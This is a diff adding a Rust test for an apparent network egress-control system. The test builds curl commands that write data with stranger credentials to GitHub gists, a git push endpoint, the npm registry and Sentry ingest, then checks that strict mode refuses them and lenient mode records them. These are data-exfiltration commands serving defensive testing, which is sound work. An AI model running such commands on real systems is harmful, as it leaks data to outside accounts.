@@ -2,6 +2,7 @@
 
 use std::collections::BTreeMap;
 
+use protocol::egress::{AuditEvent, AuditRecord, NetworkPage};
 use protocol::event::{Event, EventBody};
 use protocol::ids::SessionId;
 use protocol::network::DenyReason;
@@ -307,6 +308,60 @@ fn other_edits_open_nothing_and_hosts_to_read_from_take_no_other_methods() {
         }
         world.nothing_leaked();
         assert_eq!(world.plain.requests().len(), 1 + reading.len());
+    });
+}
+
+/// Rows X02, X03, X04 and X06 of the escape matrix, with an account of a stranger: refused where such hosts may
+/// be read only; where they may be used for everything, the record says so.
+#[test]
+fn what_strangers_can_write_to_is_only_read_or_on_record() {
+    // By their labels in reverse, as the included list has them: snippets, a repository, a package, an event.
+    let writes = [
+        ("com.github.api", "POST", "/gists"),
+        ("com.github", "POST", "/stranger/r.git/git-receive-pack"),
+        ("org.npmjs.registry", "PUT", "/stranger-package"),
+        ("io.sentry.o1.ingest", "POST", "/api/1/store/"),
+    ];
+    alone(move |internet| async move {
+        let host = |reversed: &str| reversed.rsplit('.').collect::<Vec<_>>().join(".");
+        let ask = |(reversed, method, path): &(&str, &str, &str)| {
+            let host = host(reversed);
+            format!("curl -sS --max-time 10 -u stranger:token -X {method} -d data http://{host}{path} 2>&1")
+        };
+        let mut commands: Vec<String> = writes.iter().map(ask).collect();
+        commands.push("curl -sS http://api.allowed.test/ 2>&1".into());
+        let commands: Vec<&str> = commands.iter().map(String::as_str).collect();
+        let world = World::start(internet, &commands).await;
+        for (reversed, ..) in &writes {
+            world.names.set(&host(reversed), &["93.184.216.34"]);
+        }
+        world
+            .level(json!({ "level": "custom", "domains": ["api.allowed.test"], "include_default": true }))
+            .await;
+        let on_record = async |session: SessionId| {
+            let page: NetworkPage =
+                world.server.get(&format!("/sessions/{session}/network?limit=1000")).await.is(200).json();
+            let lenient = |record: AuditRecord| match record.what {
+                AuditEvent::Decided(decided) if decided.lenient => Some(decided.host),
+                _ => None,
+            };
+            page.records.into_iter().filter_map(lenient).collect::<Vec<_>>()
+        };
+        let (compatible, said) = world.run().await;
+        assert!(said.iter().all(|said| said.contains("hello from plain")), "{said:?}");
+        let wanted: Vec<String> = writes.iter().map(|(reversed, ..)| host(reversed)).collect();
+        assert_eq!(on_record(compatible).await, wanted);
+        let told = world.server.cli(&["sessions", "network", &compatible.to_string()]).await.text();
+        assert_eq!(told.matches("strangers can write there").count(), writes.len(), "{told}");
+        let before = world.plain.requests().len();
+
+        world.edit("rendering", json!("strict")).await;
+        let (strict, said) = world.run().await;
+        let (last, refused) = said.split_last().unwrap();
+        assert!(refused.iter().all(|said| said.contains("may be read only")), "{refused:?}");
+        assert!(last.contains("hello from plain"), "{last}");
+        assert_eq!(world.plain.requests().len(), before + 1);
+        assert!(on_record(strict).await.is_empty());
     });
 }
 
